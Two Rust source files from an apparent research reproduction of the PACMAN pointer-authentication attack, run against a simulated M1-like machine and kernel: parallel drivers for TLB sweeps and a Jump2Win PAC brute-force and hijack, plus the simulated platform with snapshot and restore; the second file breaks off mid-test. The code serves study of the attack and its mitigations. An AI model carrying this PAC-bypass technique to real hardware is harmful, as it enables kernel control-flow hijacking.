/// the same per-stride VA layout as the serial sweeps (the stride index
/// is passed through), and the experiment machines are noise-free with
/// PMC0 timing, so the medians are exactly reproducible at any job
/// count. Also returns the merged machine telemetry.
///
/// Fault injection here covers shard panics only: the sweep machines
/// are deliberately noise-free (PMC0, no timer jitter), so the
/// timing-spike site does not apply.
///
/// # Errors
///
/// [`ExperimentError::Shards`] with a partial-result report (carrying
/// any underlying [`Trap`] messages) when a shard exhausts its budget.
pub fn parallel_sweep(
    kind: SweepKind,
    strides: &[u64],
    jobs: usize,
    tol: &Tolerance,
) -> Result<(Vec<SweepSeries>, Registry), ExperimentError> {
    // One work unit per stride: stride counts are tiny (3-4), and each
    // stride is the natural isolation boundary (disjoint VA region).
    let tol = Arc::new(tol.clone());
    let strides: Arc<[u64]> = strides.into();
    let plan = shard_plan(strides.len(), strides.len(), 0);
    let work = {
        let tol = Arc::clone(&tol);
        let strides = Arc::clone(&strides);
        move |shard: &Shard, attempt: u32| -> Result<(SweepSeries, Registry), ExperimentError> {
            tol.faults.maybe_panic(shard.index, tol.fault_attempt(attempt));
            let mut m = experiment_machine();
            let si = shard.index;
            let series = match kind {
                SweepKind::DataTlb => data_tlb_series(&mut m, si, strides[si])?,
                SweepKind::CacheTlb => cache_tlb_series(&mut m, si, strides[si])?,
                SweepKind::Itlb => itlb_series(&mut m, si, strides[si])?,
            };
            let mut reg = Registry::new();
            m.export_telemetry(&mut reg);
            Ok((series, reg))
        }
    };
    let init = (Vec::with_capacity(strides.len()), Registry::new());
    let ((series, mut telemetry), retries) = fold_campaign(
        &plan,
        jobs,
        tol.retry,
        work,
        init,
        |acc: &mut (Vec<SweepSeries>, Registry), _, (s, reg): (SweepSeries, Registry)| {
            acc.0.push(s);
            acc.1.merge(&reg);
        },
    )?;
    record_runner_counters(&mut telemetry, retries, &tol);
    Ok((series, telemetry))
}

/// Runs the §8.3 Jump2Win attack with its two independent brute-force
/// phases (IA-key `win()` PAC, DA-key vtable PAC) executing in parallel
/// on separate shard systems, then plants and dispatches on a fresh
/// system. Costs are summed over the phases plus the final dispatch.
///
/// # Errors
///
/// [`ExperimentError::Shards`] when a phase exhausts its retry budget;
/// [`ExperimentError::Jump2Win`] from the plant/dispatch phase.
pub fn parallel_jump2win(
    base: &SystemConfig,
    driver: &Jump2Win,
    jobs: usize,
    record: bool,
    tol: &Tolerance,
) -> Result<(Jump2WinReport, Registry), ExperimentError> {
    use pacman_isa::PacKey;

    struct PhaseOut {
        pac: u16,
        guesses: u64,
        syscalls: u64,
        cycles: u64,
        crashes: u64,
        telemetry: Registry,
    }
    // Two work units: the two brute-force phases.
    let tol = Arc::new(tol.clone());
    let plan = shard_plan(2, 2, base.machine.seed);
    let work = {
        let base = base.clone();
        let tol = Arc::clone(&tol);
        let driver = driver.clone();
        move |shard: &Shard, attempt: u32| -> Result<PhaseOut, ExperimentError> {
            let fa = tol.fault_attempt(attempt);
            tol.faults.maybe_panic(shard.index, fa);
            let spiked = tol.faults.fires(FaultSite::TimingSpike, shard.index as u64, fa);
            if spiked {
                note_spike(shard.index, fa);
            }
            let mut sys = shard_system_faulted(&base, shard.seed, record, spiked);
            let phase = shard.index;
            let (sc, target, key) = if phase == 0 {
                (sys.cpp.gadget_ia, sys.cpp.win_fn, PacKey::Ia)
            } else {
                (sys.cpp.gadget_da, sys.cpp.obj1, PacKey::Da)
            };
            let syscalls0 = sys.machine.stats.syscalls;
            let cycles0 = sys.machine.cycles;
            let crashes0 = sys.kernel.crash_count();
            let mut guesses = 0u64;
            let pac = driver.brute_phase(&mut sys, sc, target, key, phase, &mut guesses)?;
            if spiked {
                return Err(ExperimentError::InjectedSpike {
                    shard: shard.index,
                    spikes: sys.machine.stats.fault_spikes,
                });
            }
            Ok(PhaseOut {
                pac,
                guesses,
                syscalls: sys.machine.stats.syscalls - syscalls0,
                cycles: sys.machine.cycles - cycles0,
                crashes: sys.kernel.crash_count() - crashes0,
                telemetry: if record { shard_registry(&sys) } else { Registry::disabled() },
            })
        }
    };
    let (mut outs, retries) = fold_campaign(
        &plan,
        jobs,
        tol.retry,
        work,
        Vec::with_capacity(2),
        |outs: &mut Vec<PhaseOut>, _, s| outs.push(s),
    )?;
    let da = outs.pop().ok_or(ExperimentError::Runner(RunnerError::MissingResult { shard: 1 }))?;
    let ia = outs.pop().ok_or(ExperimentError::Runner(RunnerError::MissingResult { shard: 0 }))?;

    // Phases 3-4 on a fresh system with the caller's exact config (the
    // planted pointers only depend on the kernel seed, shared by all).
    let mut sys = shard_system(base, base.machine.seed, record);
    let syscalls0 = sys.machine.stats.syscalls;
    let cycles0 = sys.machine.cycles;
    let crashes0 = sys.kernel.crash_count();
    let hijacked = Jump2Win::plant_and_dispatch(&mut sys, ia.pac, da.pac)?;

    let mut telemetry = if record { Registry::new() } else { Registry::disabled() };
    telemetry.merge(&ia.telemetry);
    telemetry.merge(&da.telemetry);
    if record {
        telemetry.merge(&shard_registry(&sys));
    }
    record_runner_counters(&mut telemetry, retries, &tol);
    let report = Jump2WinReport {
        pac_win: ia.pac,
        pac_vtable: da.pac,
        guesses_tested: ia.guesses + da.guesses,
        syscalls: ia.syscalls + da.syscalls + (sys.machine.stats.syscalls - syscalls0),
        cycles: ia.cycles + da.cycles + (sys.machine.cycles - cycles0),
        crashes: ia.crashes + da.crashes + (sys.kernel.crash_count() - crashes0),
        hijacked,
    };
    Ok((report, telemetry))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::fault::{FaultPlan, RetryPolicy};
    use crate::oracle::CORRECT_MISS_THRESHOLD;

    fn quiet_config() -> SystemConfig {
        let mut cfg = SystemConfig::default();
        cfg.machine.os_noise = 0.0;
        cfg
    }

    fn no_faults() -> Tolerance {
        Tolerance::default()
    }

    #[test]
    fn oracle_distribution_classifies_both_classes() {
        let out = oracle_distribution(
            &quiet_config(),
            Channel::Data,
            1,
            12,
            2,
            false,
            &no_faults(),
            |i, tp| tp ^ (1 + i as u16),
        )
        .expect("distribution");
        assert_eq!(out.trials, 12);
        assert_eq!(out.correct_detected, 12);
        assert_eq!(out.incorrect_clean, 12);
        assert_eq!(out.crashes, 0);
        let good: u64 = out.correct_misses[CORRECT_MISS_THRESHOLD..].iter().sum();
        assert_eq!(good, 12);
        assert!(out.records.is_empty(), "not recording");
    }

    #[test]
    fn observed_oracle_streams_progress_in_shard_order() {
        let mut seen: Vec<ShardProgress> = Vec::new();
        let out = oracle_distribution_observed(
            &quiet_config(),
            Channel::Data,
            1,
            12,
            2,
            false,
            &no_faults(),
            |i, tp| tp ^ (1 + i as u16),
            |p| seen.push(p),
        )
        .expect("observed distribution");
        // One notification per shard, in shard order, completed
        // counting up — and the merged result is identical to the
        // unobserved driver's.
        assert_eq!(seen.len(), DEFAULT_SHARDS);
        for (i, p) in seen.iter().enumerate() {
            assert_eq!(p.shard, i);
            assert_eq!(p.shards, DEFAULT_SHARDS);
            assert_eq!(p.completed, i + 1);
            assert_eq!(p.retries, 0);
        }
        let plain = oracle_distribution(
            &quiet_config(),
            Channel::Data,
            1,
            12,
            2,
            false,
            &no_faults(),
            |i, tp| tp ^ (1 + i as u16),
        )
        .expect("unobserved distribution");
        assert_eq!(out.correct_detected, plain.correct_detected);
        assert_eq!(out.incorrect_clean, plain.incorrect_clean);
        assert_eq!(out.true_pac, plain.true_pac);
    }

    #[test]
    fn oracle_distribution_records_and_reindexes() {
        let out = oracle_distribution(
            &quiet_config(),
            Channel::Data,
            1,
            6,
            3,
            true,
            &no_faults(),
            |i, tp| tp ^ (1 + i as u16),
        )
        .expect("distribution");
        assert_eq!(out.records.len(), 12, "two records per trial pair");
        for (i, r) in out.records.iter().enumerate() {
            assert_eq!(r.index, i as u64, "records are reindexed in shard order");
        }
        assert_eq!(out.telemetry.counter_value("oracle.trials"), 12);
        assert_eq!(out.telemetry.counter_value("runner.retries"), 0);
        assert_eq!(out.telemetry.counter_value("runner.faults_injected"), 0);
    }

    #[test]
    fn parallel_brute_finds_the_pac_and_sums_costs() {
        let cfg = quiet_config();
        // Probe the true PAC's window; every shard sweeps its own slice.
        let mut probe = System::boot(cfg.clone());
        let set = probe.pick_quiet_dtlb_set();
        let target = probe.alloc_target(set);
        let true_pac = probe.true_pac(target);
        let candidates: Vec<u16> =
            (0..24u16).map(|i| true_pac.wrapping_sub(11).wrapping_add(i)).collect();
        let out = parallel_brute(&cfg, Channel::Data, 1, &candidates, 2, false, &no_faults())
            .expect("parallel brute");
        assert_eq!(out.target, target);
        assert_eq!(out.true_pac, true_pac);
        assert_eq!(out.outcome.found, Some(true_pac));
        assert_eq!(out.outcome.crashes, 0);
        assert!(out.outcome.syscalls > 0 && out.outcome.cycles > 0);
        // Shards past the hit still sweep: total >= the serial early-exit count.
        assert!(out.outcome.guesses_tested >= 12);
    }

    #[test]
    fn parallel_accuracy_tallies_runs() {
        let out =
            parallel_accuracy(&quiet_config(), Channel::Data, 1, 6, 2, &no_faults(), |run, tp| {
                let start = tp.wrapping_sub(2).wrapping_add((run % 2) as u16);
                (0..6u16).map(|i| start.wrapping_add(i)).collect()
            })
            .expect("accuracy");
        assert_eq!(out.runs, 6);
        assert_eq!(out.true_positives + out.false_positives + out.false_negatives, 6);
        assert_eq!(out.false_positives, 0);
        assert_eq!(out.crashes, 0);
    }

    #[test]
    fn parallel_sweep_reproduces_the_serial_knees() {
        let (series, reg) =
            parallel_sweep(SweepKind::DataTlb, &[256, 2048], 2, &no_faults()).expect("sweep");
        assert_eq!(series[0].knee_above(90), Some(12), "finding 1 survives parallelism");
        assert_eq!(series[1].knee_above(110), Some(23), "finding 2 survives parallelism");
        assert!(!reg.is_empty(), "machine telemetry merged");
        let (instr, _) = parallel_sweep(SweepKind::Itlb, &[32], 2, &no_faults()).expect("itlb");
        assert_eq!(instr[0].knee_below(90), Some(4), "finding 3 survives parallelism");
    }

    /// Replays the driver's per-shard fault decisions: the attempts a
    /// shard needs before one is clean, or `None` if the budget (with
    /// reseeding) would be exhausted.
    fn attempts_to_survive(seed: u64, rate: f64, shard: u64, budget: u32) -> Option<u32> {
        let probe = FaultPlan::new(seed, rate);
        (0..budget).find(|&a| {
            !probe.fires(FaultSite::ShardPanic, shard, a)
                && !probe.fires(FaultSite::TimingSpike, shard, a)
        })
    }

    #[test]
    fn injected_faults_within_budget_leave_aggregates_bit_identical() {
        let cfg = quiet_config();
        let wrong = |i: usize, tp: u16| tp ^ (1 + i as u16);
        let baseline = oracle_distribution(&cfg, Channel::Data, 1, 8, 2, true, &no_faults(), wrong)
            .expect("fault-free run");
        // Deterministically pick a seed whose rate-0.3 fault pattern
        // forces at least one retry on the 8-shard plan but exhausts no
        // shard's budget (both properties are pure functions of the
        // seed, so the chosen run is reproducible).
        let budget = RetryPolicy::default().max_attempts;
        let seed = (0..500u64)
            .find(|&s| {
                let survived: Vec<_> =
                    (0..8u64).map(|sh| attempts_to_survive(s, 0.3, sh, budget)).collect();
                survived.iter().all(Option::is_some)
                    && survived.iter().map(|a| u64::from(a.unwrap())).sum::<u64>() > 0
            })
            .expect("a qualifying seed exists in 0..500");
        let tol = Tolerance { retry: RetryPolicy::default(), faults: FaultPlan::new(seed, 0.3) };
        let faulted = oracle_distribution(&cfg, Channel::Data, 1, 8, 4, true, &tol, wrong)
            .expect("faults within the retry budget must not fail the run");
        assert!(
            faulted.telemetry.counter_value("runner.retries") > 0,
            "the fault plan must actually have forced retries"
        );
        assert!(faulted.telemetry.counter_value("runner.faults_injected") > 0);
        assert_eq!(baseline.correct_detected, faulted.correct_detected);
        assert_eq!(baseline.incorrect_clean, faulted.incorrect_clean);
        assert_eq!(baseline.correct_misses, faulted.correct_misses);
        assert_eq!(baseline.incorrect_misses, faulted.incorrect_misses);
        assert_eq!(baseline.crashes, faulted.crashes);
        assert_eq!(baseline.records.len(), faulted.records.len());
        for (b, f) in baseline.records.iter().zip(&faulted.records) {
            assert_eq!(b.guess, f.guess);
            assert_eq!(b.misses, f.misses);
        }
    }

    #[test]
    fn exhausted_budget_yields_a_typed_partial_failure() {
        // Rate 1.0 without reseeding: every shard panics on every
        // attempt, so every shard exhausts its budget deterministically.
        let tol = Tolerance {
            retry: RetryPolicy { max_attempts: 2, reseed: false },
            faults: FaultPlan::new(1, 1.0),
        };
        let err =
            oracle_distribution(&quiet_config(), Channel::Data, 1, 8, 2, false, &tol, |i, tp| {
                tp ^ (1 + i as u16)
            })
            .expect_err("rate-1.0 faults must exhaust the budget");
        let ExperimentError::Shards(partial) = err else {
            panic!("expected a partial-failure report, got: {err}");
        };
        assert_eq!(partial.completed, 0);
        assert!(partial.retries > 0);
        let permanent: Vec<_> = partial.failures.iter().filter(|f| !f.cancelled).collect();
        assert!(!permanent.is_empty());
        for f in &permanent {
            assert!(f.panicked, "injected shard faults panic");
            assert_eq!(f.attempts, 2);
            assert!(f.message.contains("injected fault"), "{}", f.message);
        }
    }

    #[test]
    fn injected_spikes_are_observed_then_discarded() {
        // A seed where shard 0's attempt 0 is spiked (not panicked) and
        // both of the plan's shards then survive within the budget, so
        // the run recovers with clean aggregates.
        let budget = RetryPolicy::default().max_attempts;
        let seed = (0..500u64)
            .find(|&s| {
                let probe = FaultPlan::new(s, 0.5);
                !probe.fires(FaultSite::ShardPanic, 0, 0)
                    && probe.fires(FaultSite::TimingSpike, 0, 0)
                    && (0..2u64).all(|sh| attempts_to_survive(s, 0.5, sh, budget).is_some())
            })
            .expect("a qualifying seed exists in 0..500");
        let cfg = quiet_config();
        let wrong = |i: usize, tp: u16| tp ^ (1 + i as u16);
        let baseline = oracle_distribution(&cfg, Channel::Data, 1, 2, 1, true, &no_faults(), wrong)
            .expect("fault-free");
        // Trials=2 => the plan has 2 single-trial shards; only shard 0's
        // attempt 0 is spiked under the chosen seed's spike stream (other
        // shards may retry too — irrelevant, aggregates must match).
        let tol = Tolerance { retry: RetryPolicy::default(), faults: FaultPlan::new(seed, 0.5) };
        let spiked = oracle_distribution(&cfg, Channel::Data, 1, 2, 1, true, &tol, wrong)
            .expect("spiked attempts retry within budget");
        assert_eq!(baseline.correct_detected, spiked.correct_detected);
        assert_eq!(baseline.correct_misses, spiked.correct_misses);
        assert_eq!(
            spiked.telemetry.counter_value("uarch.fault_spikes"),
            0,
            "spiked attempts are discarded, so no spike survives into the aggregate"
        );
        assert!(spiked.telemetry.counter_value("runner.retries") > 0);
    }
}
