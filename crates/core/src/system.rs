//! The attack platform: one machine + one booted kernel + the PoC kexts.

use pacman_isa::PacKey;
use pacman_kernel::kext::{CppKext, GadgetKext, PmcKext};
use pacman_kernel::{layout, Kernel};
use pacman_telemetry::bin::{BinError, Reader, Writer};
use pacman_telemetry::{Registry, Snapshot};
use pacman_uarch::{
    CoreKind, ExecEngine, FramePool, Machine, MachineConfig, Mitigation, Perms, SquashPolicy,
    TimingSource,
};

/// Configuration for [`System::boot`].
///
/// `PartialEq` (inherited float fields keep it from being `Eq`) is what
/// the [`crate::pool`] system pool keys recycled machines by.
#[derive(Clone, PartialEq, Debug)]
pub struct SystemConfig {
    /// Machine (microarchitecture) configuration.
    pub machine: MachineConfig,
    /// Seed for the kernel's per-boot key generator.
    pub kernel_seed: u64,
    /// Timing source the attacker uses (the real attack uses the
    /// multi-thread timer; the reverse-engineering experiments use PMC0
    /// through the PMC kext).
    pub timing: TimingSource,
}

impl Default for SystemConfig {
    fn default() -> Self {
        Self {
            machine: MachineConfig::default(),
            kernel_seed: 0xA11CE,
            timing: TimingSource::MultiThread,
        }
    }
}

/// A booted attack platform: the simulated M1-like machine, the XNU-like
/// kernel, and the paper's PoC kexts.
#[derive(Debug)]
pub struct System {
    /// The machine.
    pub machine: Machine,
    /// The kernel.
    pub kernel: Kernel,
    /// The §8.1 Listing-1 gadget kext.
    pub gadget: GadgetKext,
    /// The §8.3 C++ dispatch kext.
    pub cpp: CppKext,
    /// The §6.1 performance-counter kext.
    pub pmc: PmcKext,
    /// Attack-level metrics registry (disabled by default; enable with
    /// [`Registry::set_enabled`] — e.g. for the CLI's `--json` mode).
    pub telemetry: Registry,
    next_user_va: u64,
    /// The boot configuration, kept for [`System::reboot`].
    config: SystemConfig,
}

/// Base of the attacker's private user mappings (eviction sets, JIT
/// regions). Chosen 2048-set aligned so set arithmetic is simple.
pub const ATTACKER_REGION: u64 = 0x0000_2000_0000_0000;

impl System {
    /// Boots the platform: machine, kernel, kexts.
    pub fn boot(config: SystemConfig) -> Self {
        Self::boot_with_pool(config, FramePool::default())
    }

    /// [`System::boot`] recycling physical frames from `pool`. The boot
    /// sequence and machine seed are identical, so a pooled boot is
    /// bit-identical to a fresh one.
    fn boot_with_pool(config: SystemConfig, pool: FramePool) -> Self {
        let mut machine = Machine::new_with_pool(config.machine.clone(), pool);
        machine.set_timing_source(config.timing);
        let mut kernel = Kernel::boot(&mut machine, config.kernel_seed);
        let gadget = GadgetKext::install(&mut kernel, &mut machine);
        let cpp = CppKext::install(&mut kernel, &mut machine);
        let pmc = PmcKext::install(&mut kernel, &mut machine);
        Self {
            machine,
            kernel,
            gadget,
            cpp,
            pmc,
            telemetry: Registry::disabled(),
            next_user_va: ATTACKER_REGION,
            config,
        }
    }

    /// Reboots the platform in place with its original configuration,
    /// recycling the machine's physical frames instead of returning them
    /// to the host allocator. The result is bit-identical to a fresh
    /// [`System::boot`] with the same config: same keys, same layout,
    /// same ground truth, fresh telemetry. This is what per-trial
    /// experiment loops use to get a pristine system without paying a
    /// full allocation cycle per trial.
    pub fn reboot(&mut self) {
        let pool = self.machine.mem.phys.take_frame_pool();
        *self = Self::boot_with_pool(self.config.clone(), pool);
    }

    /// [`System::reboot`] into a *different* configuration: tears this
    /// system down, recycles its physical frames, and boots `config` on
    /// them. Bit-identical to `System::boot(config)` for the same
    /// reason `reboot` is — the frame pool only changes where frame
    /// storage comes from, never its (zeroed) contents or layout. This
    /// is how the executor's per-worker system pool turns a cached
    /// machine for one campaign into a machine for the next.
    pub fn reboot_into(&mut self, config: SystemConfig) {
        let pool = self.machine.mem.phys.take_frame_pool();
        *self = Self::boot_with_pool(config, pool);
    }

    /// A combined metrics snapshot: the attack-level `oracle.*` /
    /// `brute.*` series recorded in [`System::telemetry`] plus the
    /// machine's lifetime `tlb.*` / `cache.*` / `predict.*` / `spec.*`
    /// totals. The machine export lands on an enabled clone, so the
    /// microarchitectural series are present even when the attack-level
    /// registry is disabled, and calling this twice never double-counts.
    pub fn telemetry_snapshot(&self) -> Snapshot {
        let mut reg = self.telemetry.clone();
        reg.set_enabled(true);
        self.machine.export_telemetry(&mut reg);
        reg.snapshot()
    }

    /// Maps a fresh kernel page in the requested dTLB set and returns its
    /// VA — the "attacker-chosen address" of the threat model (in a real
    /// attack this is an existing kernel address such as `win()`; for the
    /// Figure 8 oracle evaluation it is a controlled landing page).
    pub fn alloc_target(&mut self, dtlb_set: usize) -> u64 {
        GadgetKext::alloc_target_page(&mut self.machine, dtlb_set)
    }

    /// Ground truth for evaluation: the correct PAC of `pointer` under
    /// the kernel IA key with a zero modifier (what the gadget kext
    /// verifies). Not available to a real attacker.
    pub fn true_pac(&self, pointer: u64) -> u16 {
        self.kernel.debug_true_pac(&self.machine, pointer)
    }

    /// Ground truth for the Jump2Win PACs (key + object-salt).
    pub fn true_pac_with_salt(&self, key: PacKey, pointer: u64) -> u16 {
        self.cpp.debug_true_pac(&self.machine, key, pointer)
    }

    /// The user scratch page used to stage syscall payloads.
    pub fn scratch_va(&self) -> u64 {
        layout::USER_SCRATCH
    }

    /// Writes an attack payload into the attacker's own scratch page.
    pub fn write_payload(&mut self, bytes: &[u8]) -> u64 {
        let va = self.scratch_va();
        assert!(self.machine.mem.debug_write_bytes(va, bytes), "scratch page must be mapped");
        va
    }

    /// Maps (if needed) one page of attacker memory at `va`.
    pub fn ensure_user_page(&mut self, va: u64) {
        let page = va & !(pacman_isa::ptr::PAGE_SIZE - 1);
        if self
            .machine
            .mem
            .tables
            .translate(&self.machine.mem.phys, pacman_isa::ptr::VirtualAddress::new(page))
            .is_none()
        {
            self.machine.map_page(page, Perms::user_rwx());
        }
    }

    /// Bump-allocates a fresh, unmapped attacker VA region of `pages`
    /// pages aligned to 2048 dTLB-set periods, for experiments that need
    /// their own address real estate.
    pub fn alloc_user_region(&mut self, pages: u64) -> u64 {
        let align = 2048 * pacman_isa::ptr::PAGE_SIZE;
        let base = self.next_user_va.div_ceil(align) * align;
        self.next_user_va = base + pages * pacman_isa::ptr::PAGE_SIZE;
        base
    }

    /// The dTLB sets the syscall path itself touches on every call.
    /// Attack experiments must monitor a set outside this list.
    pub fn hot_dtlb_sets(&self) -> Vec<u64> {
        let mut vpns = self.gadget.hot_data_vpns();
        vpns.extend(self.cpp.hot_data_vpns());
        vpns.push(pacman_isa::ptr::VirtualAddress::new(layout::USER_SCRATCH).vpn());
        vpns.push(pacman_isa::ptr::VirtualAddress::new(layout::USER_SYSCALL_STUB).vpn());
        let mut sets: Vec<u64> = vpns.into_iter().map(|v| v % 256).collect();
        sets.sort_unstable();
        sets.dedup();
        sets
    }

    /// Picks a dTLB set that no per-syscall service page collides with.
    pub fn pick_quiet_dtlb_set(&self) -> usize {
        let hot = self.hot_dtlb_sets();
        (0..256u64).find(|s| !hot.contains(s)).expect("fewer than 256 hot sets") as usize
    }

    /// Serialises the *entire* mutable platform state — configuration,
    /// machine (registers, physical memory, caches, TLBs, predictors,
    /// block cache, PAC memo, RNG position), kernel bookkeeping, the
    /// attack-level telemetry registry and the user-VA bump allocator —
    /// into a self-describing byte blob. [`System::restore`] on the
    /// result yields a system that continues *bit-identically* to this
    /// one: same cycles, same measurements, same RNG draws, same
    /// telemetry export.
    ///
    /// The blob carries a format version but no checksum; durable
    /// consumers (the daemon's snapshot files) wrap it in their own
    /// checksummed envelope.
    ///
    /// # Panics
    ///
    /// If called while a speculative fault is pending delivery, i.e.
    /// mid-instruction. Snapshot only at instruction boundaries (any
    /// point where the driving loop owns control).
    pub fn snapshot(&self) -> Vec<u8> {
        let mut w = Writer::new();
        w.u16(SYSTEM_SNAPSHOT_VERSION);
        save_config(&self.config, &mut w);
        w.u64(self.next_user_va);
        self.telemetry.save_bin(&mut w);
        self.machine.save_state(&mut w);
        self.kernel.save_state(&mut w);
        w.into_bytes()
    }

    /// Rebuilds a [`System`] from a [`System::snapshot`] blob.
    ///
    /// Restore is "boot plus overlay": the embedded configuration boots
    /// a fresh platform (so kexts, layout and ground truth are rebuilt
    /// by exactly the code that built them originally), then the saved
    /// mutable state is laid over it. Any truncation, version mismatch
    /// or geometry disagreement is a typed [`BinError`] — never a panic.
    pub fn restore(bytes: &[u8]) -> Result<Self, BinError> {
        Self::restore_with_pool(bytes, FramePool::default())
    }

    /// [`System::restore`] recycling physical frames from `pool`, for
    /// restore paths that already hold a retired machine's frames.
    pub fn restore_with_pool(bytes: &[u8], pool: FramePool) -> Result<Self, BinError> {
        let mut r = Reader::new(bytes);
        let version = r.u16()?;
        if version != SYSTEM_SNAPSHOT_VERSION {
            return Err(BinError::Corrupt(format!(
                "system snapshot version {version} (expected {SYSTEM_SNAPSHOT_VERSION})"
            )));
        }
        let config = load_config(&mut r)?;
        config
            .machine
            .validate()
            .map_err(|e| BinError::Corrupt(format!("snapshot config invalid: {e}")))?;
        let next_user_va = r.u64()?;
        let telemetry = Registry::load_bin(&mut r)?;
        let mut sys = Self::boot_with_pool(config, pool);
        sys.machine.restore_state(&mut r)?;
        sys.kernel.restore_state(&mut r)?;
        if !r.is_done() {
            return Err(BinError::Corrupt(format!(
                "{} trailing bytes after system snapshot",
                r.remaining()
            )));
        }
        sys.next_user_va = next_user_va;
        sys.telemetry = telemetry;
        Ok(sys)
    }
}

/// Format version of the [`System::snapshot`] blob. Bump on any layout
/// change; [`System::restore`] rejects mismatches with a typed error.
pub const SYSTEM_SNAPSHOT_VERSION: u16 = 1;

fn save_config(config: &SystemConfig, w: &mut Writer) {
    let m = &config.machine;
    w.u8(match m.core {
        CoreKind::PCore => 0,
        CoreKind::ECore => 1,
    });
    w.u64(m.seed);
    w.u32(m.speculation_window);
    w.u8(match m.squash {
        SquashPolicy::Eager => 0,
        SquashPolicy::Lazy => 1,
    });
    w.u8(match m.mitigation {
        Mitigation::None => 0,
        Mitigation::FenceAfterAut => 1,
        Mitigation::NonSpeculativeAut => 2,
        Mitigation::TaintAutOutputs => 3,
        Mitigation::DelayOnMiss => 4,
    });
    let l = &m.latency;
    for field in [
        l.l1_hit,
        l.l2_hit,
        l.dram,
        l.l2_tlb_hit,
        l.walk,
        l.measure_overhead,
        l.mispredict_penalty,
        l.fence,
        l.alu,
        l.syscall_transition,
        l.noise,
        l.fault_spike,
    ] {
        w.u64(field);
    }
    w.u64(m.clock_hz);
    w.u64(m.system_counter_hz);
    w.f64(m.os_noise);
    w.bool(m.bugs.leak_squashed_registers);
    w.bool(m.bugs.commit_suppressed_faults);
    w.bool(m.profile);
    w.u8(match m.engine {
        ExecEngine::Cached => 0,
        ExecEngine::Interpreted => 1,
    });
    w.u64(config.kernel_seed);
    w.u8(match config.timing {
        TimingSource::Pmc0 => 0,
        TimingSource::MultiThread => 1,
        TimingSource::SystemCounter => 2,
    });
}

fn load_config(r: &mut Reader<'_>) -> Result<SystemConfig, BinError> {
    let mut m = MachineConfig {
        core: match r.u8()? {
            0 => CoreKind::PCore,
            1 => CoreKind::ECore,
            b => return Err(BinError::Corrupt(format!("unknown core kind {b}"))),
        },
        seed: r.u64()?,
        speculation_window: r.u32()?,
        squash: match r.u8()? {
            0 => SquashPolicy::Eager,
            1 => SquashPolicy::Lazy,
            b => return Err(BinError::Corrupt(format!("unknown squash policy {b}"))),
        },
        mitigation: match r.u8()? {
            0 => Mitigation::None,
            1 => Mitigation::FenceAfterAut,
            2 => Mitigation::NonSpeculativeAut,
            3 => Mitigation::TaintAutOutputs,
            4 => Mitigation::DelayOnMiss,
            b => return Err(BinError::Corrupt(format!("unknown mitigation {b}"))),
        },
        ..MachineConfig::default()
    };
    for field in [
        &mut m.latency.l1_hit,
        &mut m.latency.l2_hit,
        &mut m.latency.dram,
        &mut m.latency.l2_tlb_hit,
        &mut m.latency.walk,
        &mut m.latency.measure_overhead,
        &mut m.latency.mispredict_penalty,
        &mut m.latency.fence,
        &mut m.latency.alu,
        &mut m.latency.syscall_transition,
        &mut m.latency.noise,
        &mut m.latency.fault_spike,
    ] {
        *field = r.u64()?;
    }
    m.clock_hz = r.u64()?;
    m.system_counter_hz = r.u64()?;
    m.os_noise = r.f64()?;
    m.bugs.leak_squashed_registers = r.bool()?;
    m.bugs.commit_suppressed_faults = r.bool()?;
    m.profile = r.bool()?;
    m.engine = match r.u8()? {
        0 => ExecEngine::Cached,
        1 => ExecEngine::Interpreted,
        b => return Err(BinError::Corrupt(format!("unknown exec engine {b}"))),
    };
    let kernel_seed = r.u64()?;
    let timing = match r.u8()? {
        0 => TimingSource::Pmc0,
        1 => TimingSource::MultiThread,
        2 => TimingSource::SystemCounter,
        b => return Err(BinError::Corrupt(format!("unknown timing source {b}"))),
    };
    Ok(SystemConfig { machine: m, kernel_seed, timing })
}

#[cfg(test)]
mod tests {
    use super::*;
    use pacman_isa::ptr::VirtualAddress;

    #[test]
    fn boot_installs_everything() {
        let mut sys = System::boot(SystemConfig::default());
        assert_eq!(sys.kernel.crash_count(), 0);
        // Training the gadget does not crash.
        sys.kernel.syscall(&mut sys.machine, sys.gadget.data_gadget, &[0, 0, 1]).unwrap();
    }

    #[test]
    fn targets_land_in_requested_sets_and_quiet_sets_are_quiet() {
        let mut sys = System::boot(SystemConfig::default());
        let quiet = sys.pick_quiet_dtlb_set();
        assert!(!sys.hot_dtlb_sets().contains(&(quiet as u64)));
        let t = sys.alloc_target(quiet);
        assert_eq!(VirtualAddress::new(t).vpn() % 256, quiet as u64);
    }

    #[test]
    fn user_regions_are_disjoint_and_aligned() {
        let mut sys = System::boot(SystemConfig::default());
        let a = sys.alloc_user_region(10);
        let b = sys.alloc_user_region(10);
        assert!(b >= a + 10 * pacman_isa::ptr::PAGE_SIZE);
        assert_eq!(VirtualAddress::new(a).vpn() % 2048, 0);
        assert_eq!(VirtualAddress::new(b).vpn() % 2048, 0);
    }

    #[test]
    fn reboot_reproduces_a_fresh_boot_bit_for_bit() {
        let cfg = SystemConfig::default();
        let mut fresh = System::boot(cfg.clone());
        let tf = fresh.alloc_target(5);
        let pf = fresh.true_pac(tf);
        fresh.kernel.syscall(&mut fresh.machine, fresh.gadget.data_gadget, &[0, 0, 1]).unwrap();
        let fresh_cycles = fresh.machine.cycles;
        let fresh_frames = fresh.machine.mem.phys.frame_count();

        let mut sys = System::boot(cfg);
        // Dirty the system thoroughly, then reboot in place.
        let _ = sys.alloc_target(9);
        for _ in 0..5 {
            sys.kernel.syscall(&mut sys.machine, sys.gadget.data_gadget, &[0, 0, 1]).unwrap();
        }
        sys.reboot();
        let t = sys.alloc_target(5);
        let p = sys.true_pac(t);
        sys.kernel.syscall(&mut sys.machine, sys.gadget.data_gadget, &[0, 0, 1]).unwrap();

        assert_eq!((t, p), (tf, pf), "layout and ground truth reproduce");
        assert_eq!(sys.machine.cycles, fresh_cycles, "pooled reboot is cycle-identical");
        assert_eq!(sys.machine.mem.phys.frame_count(), fresh_frames);
        assert_eq!(sys.kernel.crash_count(), 0);
    }

    #[test]
    fn reboot_into_a_different_config_matches_a_fresh_boot() {
        let mut other = SystemConfig::default();
        other.machine.seed = 0xDEAD_BEEF;
        other.kernel_seed = 0xB0B;

        let mut fresh = System::boot(other.clone());
        let tf = fresh.alloc_target(5);
        let pf = fresh.true_pac(tf);
        fresh.kernel.syscall(&mut fresh.machine, fresh.gadget.data_gadget, &[0, 0, 1]).unwrap();
        let fresh_cycles = fresh.machine.cycles;

        // Boot under the *default* config, dirty it, then reboot into
